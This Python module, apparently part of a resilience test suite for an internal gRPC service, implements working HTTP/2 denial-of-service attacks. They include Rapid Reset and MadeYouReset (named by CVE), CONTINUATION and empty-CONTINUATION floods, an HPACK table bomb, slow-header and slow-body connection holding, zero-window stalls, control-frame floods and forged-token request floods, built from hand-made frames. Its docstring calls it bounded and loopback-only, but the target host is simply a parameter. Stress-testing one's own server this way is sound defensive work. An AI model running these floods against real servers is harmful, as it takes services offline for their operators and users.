"""Attacks on an HTTP/2 server, each bounded in time and connections. Loopback only. Used by attacks.py.

Frames are made by hand (hyperframe) where h2 would refuse to send them.
"""

import errno
import os
import select
import socket
import time
from collections import Counter

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INVOKE = "/airlock.v1.InvocationService/Invoke"
CONNECTIONS_MAX = 50_000
BATCH = 500


def message(function, payload):
    """InvokeRequest, length-prefixed as gRPC has it."""
    fields = b"".join(
        bytes([tag]) + varint(len(text)) + text for tag, text in ((0x0A, function), (0x12, b"dev"), (0x1A, payload))
    )
    return b"\0" + len(fields).to_bytes(4, "big") + fields


def varint(value):
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


class Target:
    """Where to, as whom, until when; counts what happened."""

    def __init__(self, host, port, token, seconds):
        self.address = (host, port)
        self.token = token
        self.until = time.monotonic() + seconds
        self.count = Counter()

    def running(self):
        return time.monotonic() < self.until and self.count["connections"] < CONNECTIONS_MAX

    def headers(self, *more):
        fields = [
            (":method", "POST"), (":scheme", "http"), (":path", INVOKE), (":authority", "x"), ("te", "trailers"),
            ("content-type", "application/grpc"), ("authorization", f"Bearer {self.token}"), *more,
        ]
        # Without the dynamic table, so that one block serves every stream.
        return Encoder().encode([(name, value, True) for name, value in fields])

    def connect(self, preface=True, settings=None):
        """A connection, or nothing when the server takes none now."""
        plain = socket.socket()
        plain.settimeout(1)
        try:
            plain.connect(self.address)
        except OSError:
            plain.close()
            self.count["refused"] += 1
            time.sleep(0.01)
            return None
        plain.setblocking(False)
        self.count["connections"] += 1
        wire = Wire(self, plain)
        if preface:
            wire.send(PREFACE + SettingsFrame(settings=settings or {}).serialize())
        return wire


class Wire:
    """One connection that writes all it can and throws away what it reads."""

    def __init__(self, target, plain):
        self.target, self.plain, self.open, self.read = target, plain, True, b""

    def send(self, data, patience=0.5, deaf=False):
        """Writes everything, reading meanwhile; gives up when the server reads nothing for `patience`."""
        view, last = memoryview(data), time.monotonic()
        while view and self.open:
            try:
                sent = self.plain.send(view)
                self.target.count["bytes"] += sent
                view, last = view[sent:], time.monotonic()
            except BlockingIOError:
                if time.monotonic() - last > patience:
                    self.target.count["stalled"] += 1
                    return False
                select.select([] if deaf else [self.plain], [self.plain], [], 0.05)
            except OSError:
                return self.lost()
            if not deaf:
                self.drain()
        return self.open

    def drain(self):
        try:
            while True:
                some = self.plain.recv(1 << 16)
                if not some:
                    return self.lost()
                self.target.count["bytes_read"] += len(some)
                # Enough for a GOAWAY's frame header and code, which a server sends last.
                self.read = (self.read + some)[-64:]
        except BlockingIOError:
            return True
        except OSError:
            return self.lost()

    def lost(self):
        if self.open:
            self.target.count["closed_by_server"] += 1
            code = self.read.rfind(b"\x07\0\0\0\0\0")
            if code >= 0 and len(self.read) >= code + 14:
                self.target.count[f"goaway_{int.from_bytes(self.read[code + 10:code + 14], 'big')}"] += 1
        self.close()
        return False

    def close(self):
        self.open = False
        self.plain.close()


def flood(target, chunks, frames, pause=0.0, settings=None):
    """Sends chunk after chunk; a fresh connection, and a fresh `chunks`, whenever the server has had enough."""
    while target.running():
        wire = target.connect(settings=settings)
        if wire is None:
            continue
        for chunk in chunks():
            if not (target.running() and wire.send(chunk)):
                break
            target.count["frames"] += frames
            if pause:
                time.sleep(pause)
        wire.close()


def streams(make, batch=BATCH):
    """Chunks of `make(stream id)`, over all the stream ids a connection has."""

    def chunks():
        for first in range(1, 1 << 31, 2 * batch):
            yield b"".join(make(stream) for stream in range(first, first + 2 * batch, 2))

    return chunks


def forever(chunk, before=b""):
    def chunks():
        yield before + chunk
        while True:
            yield chunk

    return chunks


def opened(block, stream, flags=("END_HEADERS",)):
    return HeadersFrame(stream, data=block, flags=flags).serialize()


def reset(stream):
    return RstStreamFrame(stream, error_code=8).serialize()


def data(stream, body, end=True):
    return DataFrame(stream, data=body, flags=["END_STREAM"] if end else []).serialize()


def raw(kind, stream, body=b"", flags=0):
    """A frame that no library sends."""
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def rapid_reset(target):
    """CVE-2023-44487: opens and resets streams without waiting."""
    block = target.headers()
    flood(target, streams(lambda stream: opened(block, stream) + reset(stream)), 2 * BATCH)


def begin_and_reset(target):
    """Whole requests, reset once the server has begun them."""
    block, body = target.headers(), message(b"mischief", b'{"attempt":"none"}')
    while target.running():
        wire = target.connect()
        for first in range(1, 1 << 20, 40):
            batch = range(first, first + 40, 2)
            if not wire or not target.running():
                break
            wire.send(b"".join(opened(block, stream) + data(stream, body) for stream in batch))
            time.sleep(0.002)
            wire.send(b"".join(map(reset, batch)))
            target.count["frames"] += 60
            if not wire.open:
                break
        if wire:
            wire.close()


def made_you_reset(target):
    """CVE-2025-8671: makes the server reset streams itself, in every way there is."""
    block = target.headers()
    ways = [
        lambda stream: raw(8, stream, bytes(4)),  # WINDOW_UPDATE by nothing
        lambda stream: WindowUpdateFrame(stream, window_increment=0x7FFFFFFF).serialize() * 2,  # window overflow
        lambda stream: raw(2, stream, stream.to_bytes(4, "big") + b"\0"),  # PRIORITY: depends on itself
        lambda stream: data(stream, b"x") + data(stream, b"x"),  # DATA after the end
        lambda stream: raw(1, stream, block, 4),  # HEADERS in the middle without END_STREAM
        lambda stream: raw(2, stream, b"\0"),  # PRIORITY of the wrong size
    ]
    for number in range(1 << 20):
        if not target.running():
            return
        way, end = ways[number % len(ways)], time.monotonic() + 0.25
        wire = target.connect()
        for chunk in streams(lambda stream: opened(block, stream) + way(stream), 100)():
            if not (wire and time.monotonic() < end and wire.send(chunk)):
                break
            target.count["frames"] += 200
        if wire:
            wire.close()


def continuation_flood(target):
    """A header block that never ends."""
    block = target.headers()
    more = ContinuationFrame(1, data=b"\x40\x01a" + b"\x7f\x81\x06" + b"a" * 256).serialize() * 50
    flood(target, forever(more, opened(block, 1, ())), 50)


def empty_continuation_flood(target):
    """The same with frames that carry nothing and so never reach a size limit."""
    flood(target, forever(raw(9, 1) * BATCH, opened(target.headers(), 1, ())), BATCH)


def ping_flood(target):
    flood(target, forever(PingFrame(0, opaque_data=b"12345678").serialize() * BATCH), BATCH)


def settings_flood(target):
    flood(target, forever(SettingsFrame(settings={4: 65535, 1: 4096}).serialize() * BATCH), BATCH)


def priority_flood(target):
    flood(target, forever(PriorityFrame(1, depends_on=3, stream_weight=9).serialize() * BATCH), BATCH)


def window_update_flood(target):
    flood(target, forever(WindowUpdateFrame(0, window_increment=1).serialize() * BATCH), BATCH)


def unknown_frame_flood(target):
    flood(target, forever(raw(0xEE, 0, b"?") * BATCH), BATCH)


def empty_data(target):
    """A body of nothing, without end."""
    flood(target, forever(data(1, b"", False) * BATCH, opened(target.headers(), 1)), BATCH)


def padded_data(target):
    """A body of padding only."""
    flood(target, forever(raw(0, 1, b"\x08" + bytes(8), 8) * BATCH, opened(target.headers(), 1)), BATCH)


def held(target, count, begin, each_second=lambda wire, number: None, **options):
    """Many connections at the same time, each with something begun; replaced when the server closes them."""
    wires = []
    while target.running():
        while len(wires) < count and target.running():
            wire = target.connect(**options)
            if wire is None:
                break
            begin(wire, len(wires))
            wires.append(wire)
            target.count["held_max"] = max(target.count["held_max"], len(wires))
        for number, wire in enumerate(wires):
            if wire.open and wire.drain():
                each_second(wire, number)
        wires = [wire for wire in wires if wire.open]
        time.sleep(min(1, max(0, target.until - time.monotonic())))
    for wire in wires:
        wire.close()


def zero_window(target):
    """Asks for answers and leaves no room to send them; never reads."""
    block, body = target.headers(), message(b"mischief", b'{"attempt":"none"}')
    ask = b"".join(opened(block, stream) + data(stream, body) for stream in range(1, 41, 2))
    wires = []
    while target.running():
        if len(wires) < 50:
            wire = target.connect(settings={4: 0})
            if wire:
                wire.send(ask, deaf=True)
                wires.append(wire)
        time.sleep(0.02)
    target.count["held_max"] = len(wires)
    for wire in wires:
        wire.close()


def slow_headers(target):
    """Headers that come byte by byte and never end: HTTP/1.1, HTTP/2, and half a preface."""
    block = target.headers()

    def begin(wire, number):
        if number % 3 == 0:
            wire.send(b"POST / HTTP/1.1\r\nhost: x\r\nx: ")
        elif number % 3 == 1:
            wire.send(PREFACE + SettingsFrame().serialize() + opened(block, 1, ()))
        else:
            wire.send(PREFACE[:10])

    held(target, 600, begin, lambda wire, number: number % 3 == 0 and wire.send(b"x"), preface=False)


def slow_body(target):
    """A body of a byte a second."""
    block = target.headers()
    held(
        target, 300,
        lambda wire, _: wire.send(b"".join(opened(block, stream) for stream in range(1, 21, 2))),
        lambda wire, _: wire.send(b"".join(data(stream, b"\0", False) for stream in range(1, 21, 2))),
    )


def large_bodies(target):
    """Bodies of 4 MB that lack their last byte: the server would have to keep all of them."""
    head = (
        f"POST {INVOKE} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
        f"authorization: Bearer {target.token}\r\ncontent-length: 4000001\r\n\r\n"
    ).encode()
    held(target, 100, lambda wire, _: wire.send(head + b" " * 4_000_000), lambda wire, _: None, preface=False)


def idle_connections(target):
    """As many as the machine lets one process have, at most 10,000; every other one never says a word."""
    held(target, min(10_000, os.sysconf("SC_OPEN_MAX") - 100),
         lambda wire, number: number % 2 or wire.send(PREFACE + SettingsFrame().serialize()), preface=False)


def hpack_bomb(target):
    """A header of 4 KiB put into the table once and named 4,000 times in each block."""
    once = b"\x40\x01a\x7f\x81\x1e" + b"a" * 3968

    def chunks():
        yield opened(target.headers() + once, 1)
        for stream in range(3, 1 << 31, 2):
            yield opened(b"\xbe" * 4000, stream)

    flood(target, chunks, 1)


def huge_headers(target):
    block = target.headers(*((f"h{number}", "x" * 100) for number in range(120)))
    flood(target, streams(lambda stream: opened(block, stream), 20), 20)


def connection_churn(target):
    """Connects and leaves, half of the time with a reset."""
    while target.running():
        wire = target.connect(preface=target.count["connections"] % 2 == 0)
        if wire:
            if target.count["connections"] % 4 < 2:
                wire.plain.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            wire.close()


def broken_start(target, make):
    while target.running():
        wire = target.connect(preface=False)
        if wire:
            if wire.send(make(target.count["connections"])):
                select.select([wire.plain], [], [], 0.01)
                wire.drain()
            wire.close()


def invalid_preface(target):
    broken_start(target, lambda number: PREFACE[: number % 24] + b"\0" * 64)


def garbage(target):
    broken_start(target, lambda number: (PREFACE if number % 2 else b"") + os.urandom(512) + b"\r\n\r\n")


def oversize_frame(target):
    flood(target, forever(raw(0, 1, b"x" * (1 << 17))), 1)


def stream_flood(target):
    """Opens streams over the cap and never finishes one."""
    block = target.headers()
    flood(target, streams(lambda stream: opened(block, stream)), BATCH)


def refused_requests(target):
    """Whole requests with a forged token, as fast as they go."""
    target.token = target.token[:-8] + "AAAAAAAA"
    block, body = target.headers(), message(b"mischief", b"null")
    flood(target, streams(lambda stream: opened(block, stream) + data(stream, body), 100), 200, pause=0.01)


def goaway_abuse(target):
    """Says goodbye again and again and goes on asking."""
    block = target.headers()
    bye = GoAwayFrame(0, last_stream_id=0, error_code=0, additional_data=b"x" * 1000).serialize()
    flood(target, streams(lambda stream: bye + opened(block, stream), 50), 100)


def half_open(target):
    """Asks, then closes one direction, or just falls silent."""
    block, body = target.headers(), message(b"mischief", b'{"attempt":"none"}')

    def begin(wire, number):
        wire.send(opened(block, 1) + data(1, body))
        if number % 2:
            wire.plain.shutdown(socket.SHUT_WR)

    held(target, 500, begin)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        rapid_reset, begin_and_reset, made_you_reset, continuation_flood, empty_continuation_flood, ping_flood,
        settings_flood, priority_flood, window_update_flood, unknown_frame_flood, empty_data, padded_data, zero_window,
        slow_headers, slow_body, large_bodies, hpack_bomb, huge_headers, idle_connections, connection_churn, invalid_preface, garbage,
        oversize_frame, stream_flood, refused_requests, goaway_abuse, half_open,
    )
}


def run(name, host, port, token, seconds):
    """Attacks for that long and says what it did."""
    target = Target(host, port, token, seconds)
    try:
        ATTACKS[name](target)
    except OSError as error:
        # Out of our own file descriptors, for instance: the attack is as large as this machine lets it be.
        target.count[f"stopped_by_{errno.errorcode.get(error.errno, 'error').lower()}"] += 1
    return dict(target.count)
